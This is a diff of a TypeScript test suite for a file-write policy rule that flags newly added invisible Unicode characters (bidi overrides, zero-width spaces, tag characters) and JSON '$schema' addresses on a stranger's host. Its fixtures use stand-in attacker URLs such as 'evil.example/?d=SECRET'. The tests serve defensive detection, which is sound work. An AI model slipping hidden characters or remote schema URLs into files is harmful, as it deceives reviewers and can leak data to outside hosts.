@@ -1,55 +1,57 @@
-/** Writes of text that does more than it shows (W037, W038). */
 import assert from "node:assert/strict";
-import { judgeEffect } from "../../src/core/rule";
-import { rules } from "../../src/policy/index";
-import { type Fixture, makeFixture } from "./support/fixture";
-import { kindOf } from "./support/judge";
+import type { WriteEffect } from "../../src/core/effect";
+import type { RuleContext } from "../../src/core/rule";
+import { writtenTextRule } from "../../src/policy/writtenText";
 
-const schema = (url: string) => JSON.stringify({ $schema: url });
+const target = { path: "/w/a", real: "/w/a", root: "/w", shown: "a" };
+const utf16 = (text: string) => Buffer.from(`\ufeff${text}`, "utf16le");
+const bytes = (content: string | Buffer | undefined) => (typeof content === "string" ? Buffer.from(content) : content);
+const opinion = (before: string | Buffer | undefined, after: string | Buffer | undefined) => {
+  const effect: WriteEffect = { kind: "write", target, before: bytes(before), after: bytes(after) };
+  const decision = writtenTextRule.judge(effect, {} as RuleContext);
+  return decision && "kind" in decision ? decision : undefined;
+};
+const unseen = "the new text holds characters that cannot be seen";
+const schema = (address: string) => `{"$schema": "${address}"}`;
+const evil = "https://evil.example/?d=1";
+const fetched = `editors would fetch its schema from ${evil}`;
 
-describe("written text", () => {
-  let fixture: Fixture;
-  before(() => {
-    fixture = makeFixture();
-  });
-  after(() => fixture.remove());
-
-  const cases: readonly (readonly [string, before: string | undefined, after: string | undefined, string])[] = [
-    ["plain text", undefined, "hello\n", "ask"],
-    ["a remote schema", undefined, schema("https://evil.example/?d=SECRET"), "ask always"],
+describe("writtenText (D-7)", () => {
+  const cases: [what: string, before: string | Buffer | undefined, after: string | Buffer | undefined, why?: string][] =
     [
-      "a remote schema with escaped slashes",
-      undefined,
-      schema("https://evil.example/x").replaceAll("/", "\\/"),
-      "ask always",
-    ],
-    ["a schema that was there", schema("https://a.example/x"), ` ${schema("https://a.example/x")}`, "ask"],
-    ["a usual schema", undefined, schema("https://json.schemastore.org/tsconfig"), "ask"],
-    [
-      "a host that only starts like a usual one",
-      undefined,
-      schema("https://json.schemastore.org.evil.example/x"),
-      "ask always",
-    ],
-    ["a local schema", undefined, schema("./schema.json"), "ask"],
-    ["tag characters", "a\n", "a\u{e0041}\n", "ask always"],
-    ["bidirectional controls", "a\n", "a\u202eb\n", "ask always"],
-    ["zero width between letters", "ab\n", "a\u200bb\n", "ask always"],
-    ["hidden characters that were there", "a\u202eb\n", "a\u202eb c\n", "ask"],
-    ["emoji", undefined, "\u{1f469}\u200d\u{1f4bb} \u2714\ufe0f\n", "ask"],
-    ["a byte order mark", undefined, "\ufeffhello\n", "ask"],
-    ["a deletion", "a\u202eb", undefined, "ask"],
-  ];
-  for (const [title, before, after, expected] of cases)
-    it(`${title} is ${expected}`, async () => {
-      const context = fixture.context();
-      const bytes = (text: string | undefined) => (text === undefined ? undefined : new TextEncoder().encode(text));
-      const target = await context.resolve("a.json");
-      const decision = await judgeEffect(
-        rules,
-        { kind: "write", target, before: bytes(before), after: bytes(after) },
-        context,
-      );
-      assert.equal(kindOf(decision), expected, decision.reason);
+      ["plain text says nothing", "a", "b"],
+      ["a deletion says nothing", "a\u202eb", undefined],
+      ["a tag character in a new file", undefined, "a\u{e0041}b", unseen],
+      ["a bidi override put into a file", "if (a) b", "if (a\u202e) b", unseen],
+      ["a zero width space inside a word", "abc", "a\u200bbc", unseen],
+      ["one more where some were", "a\u200bb c", "a\u200bb\u200bc", unseen],
+      ["those that were there before are no news", "x a\u200bb y", "z a\u200bb y"],
+      ["nor where a line with one only moved", "a\u200bb\nc\n", "c\na\u200bb\n"],
+      ["joiners in an emoji are ordinary", "", "👨‍👩‍👧"],
+      ["a zero width space that two edits make hidden", "a\u200b", "a\u200bb", unseen],
+      ["in UTF-16 too", utf16("ab"), utf16("a\u202eb"), unseen],
+      ["a schema of a stranger in a new file", undefined, schema(evil), fetched],
+      ["a schema whose address alone changes", schema("https://json-schema.org/a"), schema(evil), fetched],
+      ["a schema with a part of its address changed", schema("https://evil.example/?d="), schema(evil), fetched],
+      ["a schema far from its key", `{"$schema":\n\n\n"x"}`, `{"$schema":\n\n\n"${evil}"}`, fetched],
+      ["a key put before an address that was there", `{"schema": "${evil}"}`, schema(evil), fetched],
+      ["with escaped slashes", undefined, '{"$schema":"https:\\/\\/evil.example\\/?d=1"}', fetched],
+      ["a schema that was there is no news", `${schema(evil)} a`, `${schema(evil)} b`],
+      ["a usual one is none", undefined, schema("https://json.schemastore.org/package")],
+      ["a file beside it is none", undefined, schema("./schema.json")],
+      ["more than can be read", undefined, '"$schema"'.repeat(1001), "it names more schemas than can be looked at"],
+    ];
+  for (const [what, before, after, why] of cases)
+    it(what, () => {
+      const decision = opinion(before, after);
+      assert.equal(decision?.reason, why);
+      assert.equal(decision?.always, why === undefined ? undefined : true);
     });
+
+  it("a change deep in a large file is found all the same", () => {
+    const text = "const a = 1; // a line of some length\n".repeat(100_000);
+    const at = 2_345_678;
+    assert.equal(opinion(text, `${text.slice(0, at)}a\u202eb${text.slice(at)}`)?.reason, unseen);
+    assert.equal(opinion(text, `${text.slice(0, at)}ab${text.slice(at)}`), undefined);
+  });
 });
